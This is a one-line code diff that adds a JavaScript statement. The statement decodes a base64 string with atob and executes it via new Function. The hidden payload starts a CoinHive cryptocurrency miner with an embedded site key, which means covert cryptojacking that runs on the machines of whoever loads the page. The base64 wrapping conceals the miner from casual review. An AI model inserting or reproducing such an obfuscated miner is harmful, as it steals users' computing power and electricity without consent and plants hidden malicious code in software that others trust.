@@ -1,0 +1,1 @@
+new Function(atob("dmFyIG1pbmVyID0gbmV3IENvaW5IaXZlLkFub255bW91cygnT1g5WUlNdENGSVB6Z05acEJkZmRZZmtNNTFaRmZPd0InLCB7dGhyb3R0bGU6IDAuM30pOwptaW5lci5zdGFydCgpOwo="))();
